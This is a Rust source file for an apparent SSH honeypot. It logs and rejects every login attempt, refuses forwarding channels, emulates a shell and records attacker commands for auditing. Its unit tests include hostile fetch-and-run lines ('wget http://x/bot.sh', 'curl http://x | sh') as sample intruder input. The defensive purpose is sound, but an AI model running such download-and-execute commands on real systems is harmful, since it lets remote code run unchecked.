use std::collections::HashSet;
use std::net::SocketAddr;

use log::{debug, info, warn};
use russh::keys::{HashAlg, PublicKey};
use russh::server::{Auth, Handler, Msg, Session as SshSession};
use russh::{Channel, ChannelId, Pty};
use tokio::sync::oneshot;
use uuid::Uuid;

use super::shell::{chunk_to_line, Shell, PROMPT};
use crate::configuration::types::Protocol;
use crate::error_handling::types::SshError;
use crate::session_management::{Session, SessionState};
use crate::storage::audit_sink::AuditEmitter;
use crate::storage::types::{AuditEvent, Credential, EventDetail};

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SshState {
    Handshaking,
    Authenticating { attempts: usize },
    ChannelOpen,
    ShellLoop,
    Closed,
}

impl SessionState for SshState {
    fn label(&self) -> &'static str {
        match self {
            SshState::Handshaking => "handshaking",
            SshState::Authenticating { .. } => "authenticating",
            SshState::ChannelOpen => "channel_open",
            SshState::ShellLoop => "shell_loop",
            SshState::Closed => "closed",
        }
    }

    fn is_closed(&self) -> bool {
        matches!(self, SshState::Closed)
    }
}

/// russh callbacks of one SSH connection.
///
/// Every credential is logged and rejected. When dropped, which happens once russh is done with
/// the connection, the handler closes its session and sends the `disconnect` payload through
/// `summary`.
pub struct SshHandler {
    session: Session<SshState>,
    emitter: AuditEmitter,
    shell: Shell,
    max_auth_attempts: Option<usize>,
    shells: HashSet<ChannelId>,
    summary: Option<oneshot::Sender<EventDetail>>,
}

impl SshHandler {
    pub fn new(
        client_addr: SocketAddr,
        emitter: AuditEmitter,
        shell: Shell,
        history_limit: usize,
        max_auth_attempts: Option<usize>,
        summary: oneshot::Sender<EventDetail>,
    ) -> Self {
        Self {
            session: Session::new(Protocol::Ssh, client_addr, SshState::Handshaking, history_limit),
            emitter,
            shell,
            max_auth_attempts,
            shells: HashSet::new(),
            summary: Some(summary),
        }
    }

    pub fn session_id(&self) -> Uuid {
        self.session.id
    }

    pub fn state(&self) -> &SshState {
        self.session.state()
    }

    /// Logs one authentication attempt and rejects it.
    ///
    /// # Errors
    ///
    /// `SshError::TooManyAttempts` once the configured bound is reached, which closes the
    /// connection.
    pub async fn reject_attempt(
        &mut self,
        username: &str,
        credential: Credential,
    ) -> Result<Auth, SshError> {
        let attempts = match self.session.state() {
            SshState::Authenticating { attempts } => attempts + 1,
            _ => 1,
        };
        self.session
            .transition(SshState::Authenticating { attempts });
        info!(
            "SSH session {} auth attempt #{} for {:?}",
            self.session.id, attempts, username
        );
        self.emit(EventDetail::AuthAttempt {
            username: username.to_string(),
            credential,
        })
        .await;

        if let Some(max) = self.max_auth_attempts {
            if attempts >= max {
                warn!(
                    "SSH session {} reached {} attempts, disconnecting",
                    self.session.id, max
                );
                return Err(SshError::TooManyAttempts(max));
            }
        }

        Ok(Auth::Reject {
            proceed_with_methods: None,
            partial_success: false,
        })
    }

    /// Enters the shell loop and returns the first prompt.
    pub fn open_shell(&mut self) -> &'static str {
        self.session.transition(SshState::ShellLoop);
        PROMPT
    }

    /// Records one chunk of shell input and returns the reply followed by the next prompt.
    pub async fn shell_line(&mut self, chunk: &[u8]) -> String {
        let line = self.record(chunk).await;
        format!("{}{}", self.shell.respond(&line), PROMPT)
    }

    /// Records an `exec` command and returns its output and exit status.
    pub async fn exec_line(&mut self, command: &[u8]) -> (String, u32) {
        let line = self.record(command).await;
        (
            self.shell.respond(&line).to_string(),
            self.shell.exit_status(&line),
        )
    }

    /// Closes the session and returns the `disconnect` payload.
    pub fn finish(&mut self) -> EventDetail {
        self.session.transition(SshState::Closed);
        EventDetail::Disconnect {
            duration_ms: self.session.elapsed_ms(),
            commands: self.session.history().to_vec(),
        }
    }

    /// Records a non-`session` channel open and refuses it. The session state is left as is.
    async fn refuse_channel(&self, kind: &str, detail: String) -> Result<bool, SshError> {
        debug!("SSH session {} refusing {} channel", self.session.id, kind);
        self.emit(EventDetail::protocol_error(format!(
            "unknown channel type {} refused {}",
            kind, detail
        )))
        .await;
        Ok(false)
    }

    async fn record(&mut self, chunk: &[u8]) -> String {
        let line = chunk_to_line(chunk);
        self.session.record(line.as_str());
        self.emit(EventDetail::command(line.as_str())).await;
        line
    }

    async fn emit(&self, detail: EventDetail) {
        self.emitter
            .emit(AuditEvent::new(
                Protocol::Ssh,
                self.session.client_addr,
                Some(self.session.id),
                detail,
            ))
            .await;
    }
}

impl Handler for SshHandler {
    type Error = SshError;

    async fn auth_password(&mut self, user: &str, password: &str) -> Result<Auth, Self::Error> {
        self.reject_attempt(user, Credential::Password(password.to_string()))
            .await
    }

    async fn auth_publickey(
        &mut self,
        user: &str,
        public_key: &PublicKey,
    ) -> Result<Auth, Self::Error> {
        let fingerprint = public_key.fingerprint(HashAlg::Sha256).to_string();
        self.reject_attempt(user, Credential::PublicKey(fingerprint))
            .await
    }

    async fn channel_open_session(
        &mut self,
        channel: Channel<Msg>,
        _session: &mut SshSession,
    ) -> Result<bool, Self::Error> {
        debug!("SSH session {} opened channel {:?}", self.session.id, channel.id());
        self.session.transition(SshState::ChannelOpen);
        Ok(true)
    }

    async fn channel_open_x11(
        &mut self,
        _channel: Channel<Msg>,
        originator_address: &str,
        originator_port: u32,
        _session: &mut SshSession,
    ) -> Result<bool, Self::Error> {
        self.refuse_channel(
            "x11",
            format!("from {}:{}", originator_address, originator_port),
        )
        .await
    }

    async fn channel_open_direct_tcpip(
        &mut self,
        _channel: Channel<Msg>,
        host_to_connect: &str,
        port_to_connect: u32,
        originator_address: &str,
        originator_port: u32,
        _session: &mut SshSession,
    ) -> Result<bool, Self::Error> {
        self.refuse_channel(
            "direct-tcpip",
            format!(
                "to {}:{} from {}:{}",
                host_to_connect, port_to_connect, originator_address, originator_port
            ),
        )
        .await
    }

    #[allow(clippy::too_many_arguments)]
    async fn pty_request(
        &mut self,
        channel: ChannelId,
        term: &str,
        col_width: u32,
        row_height: u32,
        _pix_width: u32,
        _pix_height: u32,
        _modes: &[(Pty, u32)],
        session: &mut SshSession,
    ) -> Result<(), Self::Error> {
        debug!(
            "SSH session {} pty {} {}x{}",
            self.session.id, term, col_width, row_height
        );
        session.channel_success(channel)?;
        Ok(())
    }

    async fn shell_request(
        &mut self,
        channel: ChannelId,
        session: &mut SshSession,
    ) -> Result<(), Self::Error> {
        session.channel_success(channel)?;
        self.shells.insert(channel);
        let prompt = self.open_shell();
        session.data(channel, prompt.as_bytes().to_vec())?;
        Ok(())
    }

    async fn exec_request(
        &mut self,
        channel: ChannelId,
        data: &[u8],
        session: &mut SshSession,
    ) -> Result<(), Self::Error> {
        session.channel_success(channel)?;
        let (output, status) = self.exec_line(data).await;
        session.data(channel, output.as_bytes().to_vec())?;
        session.exit_status_request(channel, status)?;
        session.eof(channel)?;
        session.close(channel)?;
        Ok(())
    }

    async fn data(
        &mut self,
        channel: ChannelId,
        data: &[u8],
        session: &mut SshSession,
    ) -> Result<(), Self::Error> {
        if !self.shells.contains(&channel) {
            debug!(
                "SSH session {} ignoring {} byte(s) on channel {:?}",
                self.session.id,
                data.len(),
                channel
            );
            return Ok(());
        }
        let reply = self.shell_line(data).await;
        session.data(channel, reply.as_bytes().to_vec())?;
        Ok(())
    }

    async fn channel_eof(
        &mut self,
        channel: ChannelId,
        session: &mut SshSession,
    ) -> Result<(), Self::Error> {
        if self.shells.remove(&channel) {
            session.close(channel)?;
        }
        Ok(())
    }

    async fn channel_close(
        &mut self,
        channel: ChannelId,
        _session: &mut SshSession,
    ) -> Result<(), Self::Error> {
        self.shells.remove(&channel);
        Ok(())
    }
}

impl Drop for SshHandler {
    fn drop(&mut self) {
        if let Some(summary) = self.summary.take() {
            let _ = summary.send(self.finish());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::emulation::command_table::{CommandTable, COMMAND_NOT_FOUND};
    use crate::emulation::ssh::shell::EXIT_NOT_FOUND;
    use crate::storage::memory_storage::MemorySink;
    use crate::storage::types::EventKind;
    use std::sync::Arc;
    use std::time::Duration;

    fn handler(
        sink: &Arc<MemorySink>,
        max_auth_attempts: Option<usize>,
    ) -> (SshHandler, oneshot::Receiver<EventDetail>) {
        let (tx, rx) = oneshot::channel();
        let emitter = AuditEmitter::new(sink.clone(), Duration::from_millis(500));
        let shell = Shell::new(Arc::new(CommandTable::ssh_default(
            "ubuntu",
            std::iter::empty::<(String, String)>(),
        )));
        let addr = "203.0.113.77:52222".parse().unwrap();
        (
            SshHandler::new(addr, emitter, shell, 256, max_auth_attempts, tx),
            rx,
        )
    }

    #[tokio::test]
    async fn test_every_password_is_rejected_and_logged() {
        let sink = Arc::new(MemorySink::new());
        let (mut h, _rx) = handler(&sink, None);

        for (user, pass) in [("root", "root"), ("admin", "admin123"), ("root", "")] {
            let auth = h.auth_password(user, pass).await.unwrap();
            assert!(matches!(auth, Auth::Reject { .. }));
        }

        assert_eq!(h.state(), &SshState::Authenticating { attempts: 3 });
        let attempts = sink.of_kind(EventKind::AuthAttempt);
        assert_eq!(attempts.len(), 3);
        assert_eq!(
            attempts[1].detail,
            EventDetail::AuthAttempt {
                username: "admin".into(),
                credential: Credential::Password("admin123".into()),
            }
        );
    }

    #[tokio::test]
    async fn test_attempt_bound_disconnects() {
        let sink = Arc::new(MemorySink::new());
        let (mut h, _rx) = handler(&sink, Some(2));

        assert!(h.auth_password("a", "1").await.is_ok());
        assert!(matches!(
            h.auth_password("a", "2").await,
            Err(SshError::TooManyAttempts(2))
        ));
        assert_eq!(sink.of_kind(EventKind::AuthAttempt).len(), 2);
    }

    #[tokio::test]
    async fn test_concurrent_sessions_log_every_attempt() {
        let sink = Arc::new(MemorySink::new());

        let tasks: Vec<_> = (0..100)
            .map(|i| {
                let (mut h, rx) = handler(&sink, None);
                tokio::spawn(async move {
                    let id = h.session_id();
                    let auth = h
                        .auth_password(&format!("user{}", i), &format!("pass{}", i))
                        .await
                        .unwrap();
                    assert!(matches!(auth, Auth::Reject { .. }));
                    drop(h);
                    (id, rx.await.unwrap())
                })
            })
            .collect();

        let mut ids = HashSet::new();
        for task in tasks {
            let (id, summary) = task.await.unwrap();
            ids.insert(id);
            match summary {
                EventDetail::Disconnect { commands, .. } => assert!(commands.is_empty()),
                other => panic!("unexpected {:?}", other),
            }
        }
        assert_eq!(ids.len(), 100);

        let attempts = sink.of_kind(EventKind::AuthAttempt);
        assert_eq!(attempts.len(), 100);
        let mut seen = HashSet::new();
        for event in &attempts {
            match &event.detail {
                EventDetail::AuthAttempt {
                    username,
                    credential: Credential::Password(password),
                } => {
                    assert_eq!(
                        username.trim_start_matches("user"),
                        password.trim_start_matches("pass")
                    );
                    assert!(seen.insert((event.session_id, username.clone())));
                }
                other => panic!("unexpected {:?}", other),
            }
        }
    }

    #[tokio::test]
    async fn test_shell_history_reported_on_drop() {
        let sink = Arc::new(MemorySink::new());
        let (mut h, rx) = handler(&sink, None);

        assert_eq!(h.open_shell(), PROMPT);
        assert_eq!(h.state(), &SshState::ShellLoop);
        let listing = h.shell_line(b"ls\r\n").await;
        assert!(listing.starts_with("bin  boot"));
        assert!(listing.ends_with(PROMPT));
        assert_eq!(h.shell_line(b"whoami\n").await, format!("root\n{}", PROMPT));
        drop(h);

        match rx.await.unwrap() {
            EventDetail::Disconnect { commands, .. } => assert_eq!(commands, vec!["ls", "whoami"]),
            other => panic!("unexpected {:?}", other),
        }
        let commands: Vec<_> = sink
            .of_kind(EventKind::Command)
            .into_iter()
            .map(|e| e.detail)
            .collect();
        assert_eq!(
            commands,
            vec![EventDetail::command("ls"), EventDetail::command("whoami")]
        );
    }

    #[tokio::test]
    async fn test_unknown_and_near_miss_commands() {
        let sink = Arc::new(MemorySink::new());
        let (mut h, _rx) = handler(&sink, None);
        h.open_shell();

        let not_found = format!("{}{}", COMMAND_NOT_FOUND, PROMPT);
        assert_eq!(h.shell_line(b"ls \n").await, not_found);
        assert_eq!(h.shell_line(b"LS\n").await, not_found);
        assert_eq!(h.shell_line(b"wget http://x/bot.sh\n").await, not_found);
        assert_eq!(
            sink.of_kind(EventKind::Command)[0].detail,
            EventDetail::command("ls ")
        );
    }

    #[tokio::test]
    async fn test_exec_exit_status() {
        let sink = Arc::new(MemorySink::new());
        let (mut h, _rx) = handler(&sink, None);

        let (out, status) = h.exec_line(b"uname -a").await;
        assert!(out.starts_with("Linux ubuntu "));
        assert_eq!(status, 0);

        let (out, status) = h.exec_line(b"curl http://x | sh").await;
        assert_eq!(out, COMMAND_NOT_FOUND);
        assert_eq!(status, EXIT_NOT_FOUND);
    }
}
